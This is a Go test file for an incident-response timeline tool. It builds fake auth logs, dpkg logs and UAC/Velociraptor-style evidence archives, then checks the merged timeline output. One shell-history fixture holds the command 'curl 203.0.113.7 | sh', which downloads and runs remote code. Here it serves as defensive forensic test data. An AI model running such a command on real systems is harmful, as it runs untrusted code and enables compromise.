package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"spor/cmd/internal/cli"
)

// logs writes a log, an archived one that begins with the same lines, and one of another kind.
func logs(t *testing.T) (files []string) {
	t.Helper()
	dir := t.TempDir()
	var auth strings.Builder
	for range 50 {
		auth.WriteString("2026-03-04T05:06:07.123456+01:00 web01 sshd[88]: Failed password for root from 203.0.113.7 port 4022 ssh2\n")
		auth.WriteString("2026-03-04T05:06:08.000001+01:00 web01 sshd[88]: Disconnected from 203.0.113.7\n")
	}
	for name, text := range map[string]string{"auth.log.1": auth.String()[:auth.Len()/2], "auth.log": auth.String(), "zsh/.zsh_history": ": 1772600767:0;curl 203.0.113.7 | sh\n"} {
		file := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		files = append(files, file)
	}
	slices.Sort(files)
	return files
}

func timelineOf(t *testing.T, inputs ...string) []byte {
	t.Helper()
	out := filepath.Join(t.TempDir(), "t.jsonl")
	var said bytes.Buffer
	code := run(t.Context(), append([]string{"timeline", "--out", out}, inputs...), cli.Streams{Out: &said, Err: &said})
	if code != cli.OK {
		t.Fatalf("%v: exit code %d: %s", inputs, code, said.String())
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestTimelineIsTheSame asks for the same bytes of the same inputs, twice and in another order, the records of both logs once.
func TestTimelineIsTheSame(t *testing.T) {
	files := logs(t)
	want := timelineOf(t, files...)
	if lines := bytes.Count(want, []byte("\n")); lines != 101 {
		t.Errorf("%d events of 101 records, the half of them in two files", lines)
	}
	if n := bytes.Count(want, []byte(`"also_in":["`+files[1]+`"]`)); n != 50 {
		t.Errorf("%d events name the second file that has them, want 50", n)
	}
	slices.Reverse(files)
	for _, inputs := range [][]string{files, {files[1], files[2], files[0]}} {
		if got := timelineOf(t, inputs...); !bytes.Equal(got, want) {
			t.Errorf("inputs %v: other bytes:\n%s\nwant\n%s", inputs, got, want)
		}
	}
}

// archiveOf makes a zip.
func archiveOf(t *testing.T, name string, files map[string]string) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for inner, text := range files {
		w, err := z.Create(inner)
		if err == nil {
			_, err = w.Write([]byte(text))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	name = filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(name, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return name
}

// TestTimelineOfCollections asks that a record is told once for each host, whoever collected it and how often, naming all
// files that hold it; and that no two hosts share one.
func TestTimelineOfCollections(t *testing.T) {
	const line = "2026-03-09 09:00:00 install evil:amd64 <none> 1.0\n" // dpkg's log, which names no host
	const other = "2026-03-09 09:00:01 install more:amd64 <none> 1.0\n"
	const opened = `{"format":1,"bundle":"ab","host":{"hostname":"web01"},"entries":[{"number":1,"name":"files/d","origin":"/var/log/dpkg.log","source":"s","size":50}]}`
	bundle := t.TempDir()
	for name, text := range map[string]string{"manifest.json": opened, "files/d": line + other} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(bundle, name)), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(bundle, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	uac := archiveOf(t, "uac-web01-linux-20260309100000.zip", map[string]string{"[root]/var/log/dpkg.log": line + other, "[root]/var/log/dpkg.log.1": line, "[root]/etc/hostname": "web01\n"})
	velociraptor := archiveOf(t, "Collection-web01-2026-03-09T10_00_00Z.zip", map[string]string{"uploads/auto/var/log/dpkg.log": line, "uploads/auto/.snapshots/1/var/log/dpkg.log": line, "client_info.json": `{"Hostname":"web01"}`})
	second := archiveOf(t, "uac-web02-linux-20260309100000.zip", map[string]string{"[root]/var/log/dpkg.log": line})
	unnamed := archiveOf(t, "third.zip", map[string]string{"var/log/dpkg.log": line})
	loose := archiveOf(t, "fourth.zip", map[string]string{"dpkg.log": line})

	got := string(timelineOf(t, bundle, uac, velociraptor, second, unnamed, loose))
	for _, want := range []string{
		`"host":"web01","path":"/.snapshots/1/var/log/dpkg.log","offset":0,"sha256":"","also_in":["/var/log/dpkg.log","/var/log/dpkg.log.1"]`,
		`"host":"web02","path":"/var/log/dpkg.log","offset":0,"sha256":""`, `"host":"third","path":"/var/log/dpkg.log"`, `"host":"fourth","path":"` + loose + `/dpkg.log"`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("%s is not in\n%s", want, got)
		}
	}
	if n := strings.Count(got, `"message":"install evil`); n != 4 {
		t.Errorf("%d events of one record of four hosts\n%s", n, got)
	}
	if n := strings.Count(got, `"message":"install more`); n != 1 {
		t.Errorf("%d events of one record of one host, in two collections\n%s", n, got)
	}
}

// TestTimelineOfUAC asks that what an archive tells of its host and files is used: year and zone of a log that leaves them out,
// and the times of files that were not taken.
func TestTimelineOfUAC(t *testing.T) {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for _, h := range []struct{ name, link, text string }{
		{"[root]/etc/localtime", "/usr/share/zoneinfo/Europe/Oslo", ""},
		{"[root]/var/log/auth.log", "", "Dec 31 09:00:00 web01 sshd[8]: Accepted password for root from 192.0.2.7 port 4 ssh2\nJul  9 09:00:00 web01 sshd[8]: Accepted password for root from 192.0.2.7 port 4 ssh2\n"},
		{"bodyfile/bodyfile.txt", "", "0|/usr/bin/evil|131|-rwxr-xr-x|0|0|1024|1783000000|1783000001|1783000002|1783000003\n"},
		{"uac.log", "", "x\n"},
	} {
		kind := byte(tar.TypeReg)
		if h.link != "" {
			kind = tar.TypeSymlink
		}
		err := w.WriteHeader(&tar.Header{Typeflag: kind, Name: h.name, Linkname: h.link, Size: int64(len(h.text)), Mode: 0o600, ModTime: time.Date(2026, 7, 10, 0, 0, 0, 0, time.UTC)})
		if err == nil {
			_, err = w.Write([]byte(h.text))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(w.Close(), z.Close()); err != nil {
		t.Fatal(err)
	}
	name := filepath.Join(t.TempDir(), "uac-web01-linux-20260710000000.tar.gz")
	if err := os.WriteFile(name, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	got := string(timelineOf(t, name))
	for _, want := range []string{
		`"datetime":"2025-12-31T08:00:00.000000+00:00"`, `"datetime":"2026-07-09T07:00:00.000000+00:00"`, `"host":"web01","path":"/var/log/auth.log"`, `"year_inferred":true,"zone_assumed":"Europe/Oslo"`,
		`"parser":"bodyfile","host":"web01","path":"` + name + `/bodyfile/bodyfile.txt"`, `"filename":"/usr/bin/evil"`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("%s is not in\n%s", want, got)
		}
	}
	if n := strings.Count(got, "\n"); n != 6 {
		t.Errorf("%d events, want 2 of the log and 4 of the body file", n)
	}
}

// TestTimelineOfDamagedArchive reads all but what is damaged, says what that is, and that there are gaps.
func TestTimelineOfDamagedArchive(t *testing.T) {
	files := map[string]string{"var/log/dpkg.log": "2026-03-09 09:00:00 startup archives unpack\n"}
	whole, cut := archiveOf(t, "whole.zip", files), archiveOf(t, "cut.zip", files)
	if err := os.Truncate(cut, 60); err != nil {
		t.Fatal(err)
	}
	var out, said bytes.Buffer
	code := run(t.Context(), []string{"timeline", cut, whole}, cli.Streams{Out: &out, Err: &said})
	if code != cli.Gaps || strings.Count(out.String(), "\n") != 1 || !strings.Contains(said.String(), "cut.zip: its list of files cannot be read") {
		t.Errorf("exit code %d, events\n%s\nsaid %s", code, out.String(), said.String())
	}
}

// TestTimelineSaysWhatIsInferred counts, at the end, the events whose time the record does not tell whole.
func TestTimelineSaysWhatIsInferred(t *testing.T) {
	dir := t.TempDir()
	for name, text := range map[string]string{
		"etc/timezone": "Europe/Oslo\n", "etc/hostname": "web01\n",
		"var/log/auth.log": "Mar  9 09:00:00 web01 sshd[8]: x\nMar  9 09:00:01 web01 sshd[8]: y\n", "var/log/dpkg.log": "2026-03-09 09:00:00 startup archives unpack\n",
	} {
		file := filepath.Join(dir, "host", name)
		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	loose := filepath.Join(dir, "dpkg.log")
	if err := os.WriteFile(loose, []byte("2026-03-09 09:00:00 startup archives unpack\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var out, said bytes.Buffer
	if code := run(t.Context(), []string{"timeline", filepath.Join(dir, "host"), loose}, cli.Streams{Out: &out, Err: &said}); code != cli.OK {
		t.Fatalf("exit code %d: %s", code, said.String())
	}
	const want = "of 2 the year is inferred (year_inferred); of 3 the zone is that of their host (zone_assumed); of 1 the zone is not known, and UTC stands in (zone_unknown)"
	if !strings.Contains(said.String(), want) {
		t.Errorf("said %q, want %q", said.String(), want)
	}
}

func TestTimelineInterrupted(t *testing.T) {
	files := logs(t)
	ctx, cancel := context.WithCancelCause(t.Context())
	cancel(cli.ErrInterrupted)
	out := filepath.Join(t.TempDir(), "t.jsonl")
	var said bytes.Buffer
	if code := run(ctx, append([]string{"timeline", "--out", out}, files...), cli.Streams{Out: &said, Err: &said}); code != cli.Interrupted {
		t.Errorf("exit code %d: %s", code, said.String())
	}
	if left, err := os.ReadDir(filepath.Dir(out)); err != nil || len(left) > 0 {
		t.Errorf("left behind: %v, %v", left, err)
	}
}

// TestCreate keeps what stood there before until what replaces it is whole.
func TestCreate(t *testing.T) {
	name := filepath.Join(t.TempDir(), "t.jsonl")
	if err := os.WriteFile(name, []byte("old"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, whole := range []bool{false, true} {
		w, done, err := create(name, nil)
		if err != nil {
			t.Fatal(err)
		}
		_, err = w.Write([]byte("new"))
		if err = errors.Join(err, done(whole)); err != nil {
			t.Fatal(err)
		}
		got, err := os.ReadFile(name)
		if want := map[bool]string{false: "old", true: "new"}[whole]; err != nil || string(got) != want {
			t.Errorf("whole %v: %q, %v, want %q", whole, got, err, want)
		}
	}
	if left, err := filepath.Glob(name + "*"); err != nil || len(left) != 1 {
		t.Errorf("left: %v, %v", left, err)
	}
}

func TestProgressLine(t *testing.T) {
	began := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	for _, tt := range []struct {
		done, total int64
		took        time.Duration
		want        string
	}{
		{5 << 20, 0, time.Minute, "read 5 MiB"},
		{0, 10 << 20, time.Minute, "read 0 B of 10 MiB, 0 %"},
		{5 << 20, 20 << 20, time.Minute, "read 5 MiB of 20 MiB, 25 %, about 3m0s left"},
		{5 << 20, 20 << 20, time.Second, "read 5 MiB of 20 MiB, 25 %"},
		{30 << 20, 20 << 20, time.Minute, "read 30 MiB of 20 MiB, 100 %, about 0s left"},
	} {
		p := progress{what: "read", unit: cli.Bytes, done: tt.done, total: tt.total, began: began}
		if got := p.line(began.Add(tt.took)); got != tt.want {
			t.Errorf("%+v: got %q, want %q", tt, got, tt.want)
		}
	}
}
